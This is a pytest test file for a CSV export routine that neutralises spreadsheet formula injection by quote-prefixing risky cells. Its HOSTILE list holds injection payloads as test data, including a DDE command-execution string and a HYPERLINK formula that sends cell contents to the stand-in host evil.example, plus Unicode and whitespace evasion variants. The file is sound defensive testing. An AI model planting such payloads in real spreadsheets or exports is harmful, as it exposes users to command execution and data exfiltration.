import csv
import io
from datetime import UTC, datetime
from uuid import UUID

import pytest

from comments.spreadsheet import BYTE_ORDER_MARK, cell, rows_as_text

# What a spreadsheet would calculate, and what it is to be told instead.
HOSTILE = [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("|calc", "'|calc"),
    ("%0A=1", "'%0A=1"),
    ("\t=1+1", "' =1+1"),
    ("\r=1+1", "' =1+1"),
    ("\n=1+1", "' =1+1"),
    ("\tplain", "' plain"),
    ("\rplain", "' plain"),
    ("  =1+1", "'  =1+1"),
    ("\u00a0=1+1", "'\u00a0=1+1"),
    ("\u3000=1+1", "'\u3000=1+1"),
    ("\u200b=1+1", "'\u200b=1+1"),
    ("\ufeff=1+1", "'\ufeff=1+1"),
    ("\u202e=1+1", "'\u202e=1+1"),
    ('"=1+1"', "'\"=1+1\""),
    ("'=1+1", "''=1+1"),
    ("“=1+1”", "'“=1+1”"),
    ("＝1+1", "'＝1+1"),
    ("＋1+1", "'＋1+1"),
    ("－1+1", "'－1+1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("﹦1", "'﹦1"),
    ("−1+1", "'−1+1"),
    ("\x00=1+1", "'=1+1"),
    ("=\x001+1", "'=1+1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("cmd|' /C calc'!A0", "'cmd|' /C calc'!A0"),
    ('=HYPERLINK("https://evil.example/?x="&A1,"open")', "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")"),
    # Where cells are parted at semicolons, a quotation mark within a line protects nothing.
    ("nice;=1+1", "nice;'=1+1"),
    ('nice";=1+1', "nice\";'=1+1"),
    ("nice; \t@SUM(A1);fine", "nice;'  @SUM(A1);fine"),
    ("+tag@example.org", "'+tag@example.org"),
]  # fmt: skip
HARMLESS = [
    "Nice; really nice",
    "a=b",
    "1 - 2",
    "née O’Brien <o@example.org>",
    "a|b",
    "日本語",
    "",
    "'quoted'",
    "100 %",
]


@pytest.mark.parametrize(("text", "written"), HOSTILE)
def test_formula_becomes_a_text(text, written):
    assert cell(text) == written


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (-3.5, -3.5),
        (12, 12),
        (datetime(2026, 5, 1, 12, 3, 9, 77, tzinfo=UTC), "2026-05-01T12:03:09+00:00"),
        (UUID(int=7), "00000000-0000-0000-0000-000000000007"),
        ("one\ntwo\r\nthree\u2028four", "one two three four"),
        ("a\x00b\x1bc\x7f\x85\ud800", "abc "),
    ],
)
def test_value_is_written_as_what_it_is(value, written):
    assert cell(value) == written


def test_hostile_table_is_read_back_cell_by_cell_with_nothing_to_calculate():
    texts = [text for text, _written in HOSTILE]
    lines = list(rows_as_text(["=head", "n"], ([text, -1.5] for text in texts)))
    assert len(lines) == len(texts) + 1
    assert lines[0].startswith(BYTE_ORDER_MARK)
    whole = "".join(lines).removeprefix(BYTE_ORDER_MARK)
    rows = list(csv.reader(io.StringIO(whole, newline="")))
    assert rows[0] == ["'=head", "n"]
    assert [row[0] for row in rows[1:]] == [written for _text, written in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-1.5"}
    for row in csv.reader(io.StringIO(whole, newline=""), delimiter=";", quoting=csv.QUOTE_NONE):
        assert not [
            part for part in row[1:] if part.strip(" \"'\t")[:1] in ("=", "+", "@") and "'" not in part
        ]


def test_lines_are_made_one_after_the_other():
    def endless():
        while True:
            yield ["a"]

    lines = rows_as_text(["head"], endless())
    assert [next(lines) for _line in range(3)] == [f'{BYTE_ORDER_MARK}"head"\r\n', '"a"\r\n', '"a"\r\n']
